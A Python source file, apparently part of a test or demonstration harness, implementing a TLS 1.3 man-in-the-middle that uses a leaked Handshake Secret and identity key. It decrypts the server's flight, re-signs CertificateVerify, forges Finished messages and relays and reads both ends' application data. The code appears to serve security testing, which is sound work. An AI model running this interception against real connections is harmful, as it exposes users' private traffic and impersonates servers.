# SPDX-License-Identifier: Apache-2.0
"""A splice behind ServerHello: ClientHello and ServerHello pass as they are, so that both ends have
one Handshake Secret, which leaked. All behind them is the attacker's own towards the client, but
for the genuine server's evidence: CertificateVerify is signed anew with the leaked identity key,
and Finished is made anew. Client and server then have different application secrets, and the
attacker has both.
"""

from __future__ import annotations

import socket
import threading
from pathlib import Path
from typing import Any

from cryptography.exceptions import InvalidTag
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.hashes import SHA256

import tls13
from leaks import leaked_key
from party import Party

import messages  # of peers/python, where tls13 has it from

CONTEXT = b"TLS 1.3, server CertificateVerify"
ECDSA_P256 = b"\x04\x03"
EMPTY_EXTENSIONS = messages.message(messages.ENCRYPTED_EXTENSIONS, b"\0\0")


class Splice:
    """One connection of a client, and one of the genuine server."""

    def __init__(
        self, party: Party, client: socket.socket, server: socket.socket, key: str, leaked: str
    ) -> None:
        self.party = party
        self.client = client
        self.server = server
        self.key_file = key
        self.leaked = leaked

    def _key(self) -> ec.EllipticCurvePrivateKey:
        """The leaked identity key; where none leaked, one of the attacker's own."""
        if not self.key_file:
            return ec.generate_private_key(ec.SECP256R1())
        return leaked_key(Path(self.key_file))

    def _handshake_secret(self, client_random: bytes, size: int) -> bytes:
        """The one that leaked for this connection; where none did, a guess."""
        if not self.leaked:
            return bytes(size)
        self.party.told("secret")  # the file has it by then
        for line in Path(self.leaked).read_text(encoding="ascii").splitlines():
            words = line.split()
            if words[1:2] == [client_random.hex()]:
                return bytes.fromhex(words[-1])
        raise ValueError("expected the Handshake Secret of this connection, came another's")

    def run(self) -> None:
        """The whole attack."""
        hello, records = tls13.read_hello(self.client, messages.CLIENT_HELLO)
        self.server.sendall(records)
        answer, records = tls13.read_hello(self.server, messages.SERVER_HELLO)
        self.client.sendall(records)
        self.suite = tls13.SUITES[tls13.chosen_suite(answer)]
        self.hellos = hello + answer
        random = hello[messages.RANDOM_AT : messages.RANDOM_AT + 32]
        self.secret = self._handshake_secret(random, self.suite.size)
        self.from_client_hs = self.suite.derive(self.secret, b"c hs traffic", self.hellos)
        self.from_server_hs = self.suite.derive(self.secret, b"s hs traffic", self.hellos)
        try:
            flight = self._flight()
        except InvalidTag:
            self.party.step("flight-unread", "without the secret it cannot be read")
            sealed = tls13.Direction(self.suite, self.from_server_hs)
            self.client.sendall(sealed.seal(messages.HANDSHAKE, EMPTY_EXTENSIONS))
            self.party.step("flight-sent", "sends a flight of its own under a guessed secret")
            self._alert()
            return
        self._attack(flight)

    def _alert(self) -> None:
        self.client.settimeout(self.party.timeout)
        try:
            tls13.read_record(self.client)
        except OSError:
            pass

    def _flight(self) -> bytes:
        """The genuine server's messages, EncryptedExtensions to Finished."""
        opened = tls13.Direction(self.suite, self.from_server_hs)
        flight = b""
        while True:
            record = tls13.read_record(self.server)
            if record is None:
                raise ValueError("expected the server's flight, came the end of the stream")
            if record[0] == messages.CHANGE_CIPHER_SPEC:
                continue
            flight += opened.open(record)[1]
            found = tls13.messages(flight)
            if found and found[-1][0] == messages.FINISHED:
                return flight

    def _signed(self, before: bytes) -> bytes:
        """A CertificateVerify of the attacker's (RFC 8446 4.4.3)."""
        content = b" " * 64 + CONTEXT + b"\0" + self.suite.hash(before)
        signature = self._key().sign(content, ec.ECDSA(SHA256()))
        return messages.message(
            messages.CERTIFICATE_VERIFY, ECDSA_P256 + messages.vector(2, signature)
        )

    def _attack(self, flight: bytes) -> None:
        suite, genuine = self.suite, self.hellos + flight
        own = self.hellos
        for one in tls13.messages(flight):
            if one[0] == messages.CERTIFICATE_VERIFY:
                one = self._signed(own)
            elif one[0] == messages.FINISHED:
                one = suite.finished(self.from_server_hs, own)
            own += one
        sealed = tls13.Direction(suite, self.from_server_hs)
        self.client.sendall(tls13.DUMMY_CHANGE_CIPHER_SPEC)
        self.client.sendall(sealed.seal(messages.HANDSHAKE, own[len(self.hellos) :]))
        kinds = ", ".join(str(one[0]) for one in tls13.messages(flight))
        words = f"the genuine flight (messages {kinds}), CertificateVerify and Finished made anew"
        self.party.step("flight-sent", words)
        master = suite.master(self.secret)
        keys: dict[str, tls13.Direction] = {}
        for end, transcript in (("client", own), ("server", genuine)):
            for who in ("client", "server"):
                secret = suite.derive(master, who[:1].encode() + b" ap traffic", transcript)
                keys[f"{end}-{who}"] = tls13.Direction(suite, secret)
        # Towards the genuine server: its client's Finished, over its own transcript.
        finished = suite.finished(self.from_client_hs, genuine)
        hs = tls13.Direction(suite, self.from_client_hs)
        self.server.sendall(tls13.DUMMY_CHANGE_CIPHER_SPEC + hs.seal(messages.HANDSHAKE, finished))
        back = threading.Thread(
            target=self._pump,
            args=(self.server, self.client, keys["server-server"], keys["client-server"], "server"),
            daemon=True,
        )
        if self._client_finished():
            back.start()
            self._pump(
                self.client, self.server, keys["client-client"], keys["server-client"], "client"
            )
            back.join(self.party.timeout)

    def _client_finished(self) -> bool:
        """Did the client take the flight?"""
        opened = tls13.Direction(self.suite, self.from_client_hs)
        while True:
            record = tls13.read_record(self.client)
            if record is None:
                return False
            if record[0] == messages.CHANGE_CIPHER_SPEC:
                continue
            if record[0] == messages.ALERT:
                self.party.step("alert", "the client refuses, in the clear", record[5:])
                return False
            kind, data = opened.open(record)
            if kind == messages.ALERT:
                self.party.step("alert", "the client refuses", data)
                return False
            if data[:1] == bytes([messages.FINISHED]):
                self.party.step("client-finished", "the client has taken the flight")
                return True

    def _pump(
        self,
        source: socket.socket,
        sink: socket.socket,
        opened: Any,
        sealed: Any,
        whose: str,
    ) -> None:
        """Reads one end's application data and hands it on under the other end's keys."""
        try:
            while True:
                record = tls13.read_record(source)
                if record is None:
                    return
                if record[0] != messages.APPLICATION_DATA:
                    continue
                kind, data = opened.open(record)
                if kind == messages.APPLICATION_DATA:
                    words = f"reads {len(data)} bytes of the {whose}'s application data"
                    self.party.step("read", words, data[:64])
                sink.sendall(sealed.seal(kind, data))
                if kind == messages.ALERT:
                    return
        except (OSError, InvalidTag, ValueError) as problem:
            self.party.step("ended", f"the {whose}'s stream ends: {type(problem).__name__}")
